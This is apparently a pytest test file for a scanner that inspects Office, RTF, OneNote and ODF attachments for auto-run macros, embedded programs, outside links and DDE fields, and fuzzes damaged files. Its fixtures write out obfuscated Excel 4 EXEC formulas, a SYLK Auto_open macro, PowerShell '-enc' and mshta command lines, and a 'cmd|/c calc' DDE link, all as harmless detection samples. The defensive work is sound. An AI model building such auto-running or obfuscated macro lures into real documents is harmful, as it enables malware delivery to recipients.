"""What is read out of Office documents: formulas, links, objects, files, text; no damage to them raises out."""

from __future__ import annotations

import random

import pytest

from tests import files, files_office
from tests.workers.attachments.scan import File, files_of, scan, scan_and_listen
from workers.attachments import excel4, fields, outside, rtf, types
from workers.attachments.excel4 import Formula

PROGRAM = files.windows_program()
LURE = "https://login.example.net/verify"
EXEC = b"\x42\x01\x6e\x00"
CALC = files_office.text_token("calc") + EXEC

FORMULAS = {
    "as it is": ('EXEC("calc")', 'EXEC("calc")'),
    "joined": ('EXEC("ca"&"lc")', 'EXEC("calc")'),
    "numbers": ('EXEC(CHAR(99)&"alc")', 'EXEC("calc")'),
    "sums of numbers": ("EXEC(CHAR(100-1))", 'EXEC("c")'),
    "a call": ('EXEC(CONCATENATE("ca","lc"))', 'EXEC("calc")'),
    "a cell": ("EXEC(B7)", 'EXEC("mshta")'),
    "quotes": ('ALERT("a""b"&"c")', 'ALERT("a""bc")'),
    "a name that looks like a cell": ("SUM(AB12CD)", "SUM(AB12CD)"),
    "not to be known": ("EXEC(CHAR(X))", "EXEC(CHAR(X))"),
    "no character": ("CHAR(99999)", "CHAR(99999)"),
    "an open quote": ('EXEC("calc', 'EXEC("calc'),
    "a sign within text": ('ALERT("a & b")', 'ALERT("a & b")'),
}


@pytest.mark.parametrize(("text", "plain"), FORMULAS.values(), ids=FORMULAS)
def test_formulas_are_put_together(text: str, plain: str) -> None:
    assert excel4.deobfuscated([Formula("A1", text)], {"B7": "mshta"}) == [Formula("A1", plain)]


def test_what_macros_do_is_said_with_the_formula() -> None:
    does = excel4.behaviour([Formula("A1", '"cal"&CHAR(99)'), Formula("A2", "EXEC(A1)"), Formula("A3", "HALT()")])
    assert does.does == ('starts programs (EXEC("calc"))',)
    assert does.lines == ('A2 =EXEC("calc")',)


@pytest.mark.parametrize(
    "file",
    [
        ("a.xls", files_office.xls(files_office.text_token("cal") + files_office.char_token("c") + b"\x08" + EXEC)),
        ("a.xlsm", files_office.xlsm('EXEC("cal"&CHAR(99))')),
        ("a.slk", b'ID;PWXL;N;E\r\nO;L;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;EEXEC("calc")\r\nE\r\n'),
    ],
    ids=lambda file: file[0],
)
def test_excel_4_macros_of_every_kind_of_workbook(file: File) -> None:
    facts = files_of(file)[0][0]
    assert facts.macros
    assert facts.auto_run_macros
    assert 'starts programs (EXEC("calc"))' in facts.suspicious_macro_calls
    finding = next(hit for hit in scan(file).findings if hit.id == "document_has_auto_run_macros")
    assert 'EXEC("calc")' in str(finding.where)


def test_macros_of_libreoffice_that_start_by_themselves() -> None:
    shell = "Sub Main\nShell(&quot;calc.exe&quot;)\nEnd Sub"
    report = scan(("a.odt", files_office.odt(scripts=files_office.listener(), basic=shell)))
    findings = {finding.id: finding for finding in report.findings}
    assert findings["document_has_auto_run_macros"].summary.startswith("a.odt runs macros")
    assert "Shell" in findings["document_has_macros"].detail


def test_a_workbook_in_a_document_is_read() -> None:
    outer = files.compound_file({"Workbook": bytes(5_000), "MBD1/Workbook": files_office.workbook_stream(CALC)})
    assert "Excel 4 macros" in files_of(("a.xls", outer))[0][0].suspicious_macro_calls


QUIET: dict[str, File] = {
    "a workbook without macro sheets": ("a.xls", files_office.xls(files_office.text_token("x"), macro=False)),
    "names in a workbook": ("a.xlsx", files_office.excel({"xl/workbook.xml": b'<definedName name="Print_Area">'})),
    "a name that starts, and nothing to start": (
        "a.xlsx",
        files_office.excel({"xl/workbook.xml": b'<workbook><definedName name="_xlnm.Auto_Open">'}),
    ),
    "an empty library of LibreOffice": ("a.odt", files_office.odt(basic="REM BASIC\nSub Main\n\nEnd Sub")),
    "an event of a button": (
        "a.odt",
        files_office.odt(scripts=files_office.listener("form:performaction")),
    ),
    "an empty table": ("a.slk", b"ID;PWXL;N;E\r\nC;X1;Y1;K1\r\nE\r\n"),
}


@pytest.mark.parametrize("file", QUIET.values(), ids=QUIET)
def test_no_macros(file: File) -> None:
    assert not any(facts.macros for facts in files_of(file)[0])


def test_source_stands_in_the_evidence() -> None:
    finding = next(hit for hit in scan(("a.docm", files.macro_document())).findings if "auto_run" in hit.id)
    assert "shell.Run" in str(finding.where)
    assert "cmd.exe /c start" in finding.detail


# Files in documents

HOLDERS: dict[str, File] = {
    "Word 97": ("a.doc", files_office.with_object(files_office.native("bill.exe", PROGRAM))),
    "docx": (
        "a.docx",
        files_office.word(
            more={"word/embeddings/oleObject1.bin": files_office.with_object(files_office.native("bill.exe", PROGRAM))}
        ),
    ),
    "RTF": (
        "a.rtf",
        files_office.rtf(
            files_office.rtf_object(files_office.ole1("Package", files_office.native("bill.exe", PROGRAM)[4:]))
        ),
    ),
    "OneNote": ("a.one", files_office.notebook(PROGRAM, name="bill.exe")),
    "ODF": (
        "a.odt",
        files.zip_file(
            {
                "mimetype": b"application/vnd.oasis.opendocument.text",
                "content.xml": b"<x/>",
                "Object 1": files_office.with_object(files_office.native("bill.exe", PROGRAM)),
            }
        ),
    ),
}


@pytest.mark.parametrize("file", HOLDERS.values(), ids=HOLDERS)
def test_files_in_documents_are_files_of_their_own(file: File) -> None:
    inner = [facts for facts in files_of(file)[0] if facts.filename == "bill.exe"]
    assert [(facts.true_type, facts.reached) for facts in inner] == [
        ("application/vnd.microsoft.portable-executable", "embedded")
    ]
    assert "archive_holds_program_or_script" in {finding.id for finding in scan(file).findings}


def test_several_files_of_a_notebook_have_numbers() -> None:
    tree, _ = files_of(("a.one", files_office.notebook(PROGRAM, b"%PDF-1.4", name="bill.exe")))
    assert [facts.path for facts in tree] == ["a.one", "a.one/file 1", "a.one/file 2"]


COMMANDS = {
    "powershell.exe%20-enc%20AAAA": True,
    "powershell -enc AAAA": True,
    "cmd /c calc": True,
    "mshta http://files.example.net/a": True,
    "file:///C:/Windows/System32/calc.exe": True,
    r"C:\Users\a b\c d.exe": True,
    "%windir%\\notepad.exe": True,
    "calc.exe": True,
    "": False,
    "#cmd": False,
    "PowerShell basics.docx": False,
    "cmd": False,
    "../tools/setup.exe": False,
    "setup.exe.txt": False,
    r"\\server\tools\a.exe": False,
    "https://example.com/a.exe": False,
    "mailto:cmd@example.com": False,
    r"C:\curl\notes.txt": False,
    "file:///C:/a/b.docx": False,
}


@pytest.mark.parametrize(("target", "answer"), COMMANDS.items(), ids=COMMANDS)
def test_commands(target: str, answer: bool) -> None:
    assert outside.is_command(target) is answer


# Links

LINKED: dict[str, File] = {
    "docx": ("a.docx", files_office.word(relations=files.external("hyperlink", LURE))),
    "a field": ("a.docx", files_office.word(files_office.field(f'HYPERLINK "{LURE}"'))),
    "footer": (
        "a.docx",
        files_office.word(more={"word/_rels/footer1.xml.rels": files.external("hyperlink", LURE).encode()}),
    ),
    "slides": (
        "a.pptx",
        files.zip_file(
            {
                "[Content_Types].xml": b"<x/>",
                "ppt/p.xml": b"",
                "ppt/slides/_rels/slide7.xml.rels": files.external("hyperlink", LURE).encode(),
            }
        ),
    ),
    "sheet": (
        "a.xlsx",
        files_office.excel({"xl/worksheets/_rels/sheet1.xml.rels": files.external("hyperlink", LURE).encode()}),
    ),
    "with a prefix": (
        "a.docx",
        files_office.word(relations=files.external("hyperlink", LURE).replace("<Relationship", "<r:Relationship")),
    ),
    "in other letters": (
        "a.docx",
        files_office.word(relations=files.external("hyperlink", LURE).replace('"External"', "'external'")),
    ),
    "one XML file": (
        "a.xml",
        files.flat_document().replace(
            b"</pkg:package>", files.external("hyperlink", LURE).encode() + b"</pkg:package>"
        ),
    ),
    "RTF": ("a.rtf", files_office.rtf(rf'{{\field{{\*\fldinst {{HYPERLINK "{LURE}"}}}}{{\fldrslt here}}}}')),
    "ODF": ("a.odt", files_office.odt(f'<text:a xlink:type="simple" xlink:href="{LURE}">here</text:a>')),
    "Word 97": (
        "a.doc",
        files.compound_file(
            {
                "WordDocument": b"\xec\xa5\xc1\x00"
                + bytes(600)
                + f'\x13HYPERLINK "{LURE}"\x14here\x15'.encode()
                + bytes(5_000)
            }
        ),
    ),
}


@pytest.mark.parametrize("file", LINKED.values(), ids=LINKED)
def test_links_are_judged(file: File) -> None:
    _, heard = scan_and_listen(file)
    assert LURE in {link for derived in heard for link in derived.urls}


def test_text_of_rtf_is_judged() -> None:
    document = rtf.read_rtf(files_office.rtf(r"Gr\u252?\'dfe{\*\generator no}\par {\info no}yes"), text_characters=100)
    assert document.text == "Gr\u00fc\u00dfe\nyes"


OUTSIDE = {
    "https://files.example.net/a": "files.example.net",
    "mhtml:https://files.example.net/a!x-usc:https://files.example.net/a": "files.example.net",
    r"\\files.example.net\share\a": "files.example.net",
    r"\\files.example.net@ssl\share\a": "files.example.net",
    "file://203.0.113.9/share": "203.0.113.9",
    r"file:///\\files.example.net\a": "files.example.net",
    "http://user:word@files.example.net/a": "files.example.net",
    r"C:\Users\a\b.dotx": "",
    "file:///C:/Users/a/b.dotx": "",
    r"\\server\share\b.dotx": "",
    "file://server.corp/share": "",
    "http://192.168.7.7/a": "",
    "http://localhost/a": "",
    "embeddings/oleObject1.bin": "",
    "https://company.sharepoint.com/a.dotx": "",
    "https://d.docs.live.net/1234/a.dotx": "",
    "": "",
}


@pytest.mark.parametrize(("target", "host"), OUTSIDE.items(), ids=OUTSIDE)
def test_hosts_on_the_internet(target: str, host: str) -> None:
    assert outside.internet_host(target) == host


def test_fields_that_nobody_closes_are_read() -> None:
    markup = files_office.mark("begin") * 50 + "<w:instrText>DDE a</w:instrText>"
    assert "DDE a" in list(fields.instructions_of_xml(markup.encode()))


# Damage

DAMAGED: dict[str, File] = {
    **HOLDERS,
    "xls": ("a.xls", files_office.xls(files_office.text_token("cal") + EXEC, links=["cmd|/c calc"])),
    "xlsm": ("a.xlsm", files_office.xlsm('EXEC("cal"&CHAR(99))')),
    "field": ("a.docx", files_office.word(files_office.field("DDE", "AUTO cmd"))),
    "equation": ("a.doc", files_office.equation_object(files_office.equation(font=b"A" * 60))),
    "encrypted": ("a.docx", files_office.encrypted("VelvetSweatshop")),
    "VBA": ("a.doc", files.doc(files.MACRO)),
    "ODF with macros": (
        "a.odt",
        files_office.odt(scripts=files_office.listener(), basic='Sub Main\nShell("a")\nEnd Sub'),
    ),
    "links": ("a.docx", files_office.word(relations=files.external("oleObject", files_office.EVIL))),
}


@pytest.mark.parametrize("file", DAMAGED.values(), ids=DAMAGED)
def test_files_that_end_early_raise_nothing(file: File) -> None:
    name, data = file
    for part in range(12):
        assert scan((name, data[: len(data) * part // 12])).errors == (), part


@pytest.mark.parametrize("name", DAMAGED)
def test_damaged_files_raise_nothing(name: str) -> None:
    """200 mutations over all kinds: bytes changed, cut out, repeated."""
    chance = random.Random(name)
    filename, data = DAMAGED[name]
    for number in range(200 // len(DAMAGED) + 1):
        report = scan((filename, mutated(data, chance)))
        assert report.errors == (), number


def mutated(data: bytes, chance: random.Random) -> bytes:
    out = bytearray(data)
    for _ in range(chance.randint(1, 12)):
        at = chance.randrange(len(out))
        match chance.randrange(4):
            case 0:
                out[at] = chance.randrange(256)
            case 1:
                out[at : at + 4] = chance.choice((b"\xff\xff\xff\xff", bytes(4), b"\x00\x00\x00\x80"))
            case 2:
                del out[at : at + chance.randint(1, 40)]
            case _:
                out[at:at] = out[at : at + chance.randint(1, 200)]
        if not out:
            break
    return bytes(out)


@pytest.mark.parametrize(
    "name", ["word/theme/theme9.xml", "word/media/image1.png", "word/fonts/font1.odttf", "docProps/thumbnail.jpeg"]
)
@pytest.mark.parametrize(
    ("content", "kind"),
    [(files.vba_project(), "application/x-ole-storage"), (files.windows_program(), types.WINDOWS_PROGRAM)],
    ids=["macros", "a program"],
)
def test_a_part_under_a_harmless_name_is_looked_at(name: str, content: bytes, kind: str) -> None:
    document = files_office.word(more={name: content})
    tree, problems = files_of(("a.docx", document))
    assert kind in {file.true_type for file in tree}
    assert tree[0].macros == (kind == "application/x-ole-storage")
    assert problems == ()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("word/theme/theme1.xml", b"\xef\xbb\xbf<?xml version='1.0'?><a/>"),
        ("word/theme/theme2.xml", "<a/>".encode("utf-16")),
        ("word/theme/theme3.xml", b""),
        ("word/media/image1.png", files.blank_picture()),
        ("word/media/image2.emf", b"\x01\x00\x00\x00" + bytes(100)),
    ],
)
def test_a_part_that_is_what_its_name_says_costs_nothing(name: str, content: bytes) -> None:
    tree, _ = files_of(("a.docx", files_office.word(more={name: content})))
    assert name.rpartition("/")[2] not in {file.filename for file in tree}
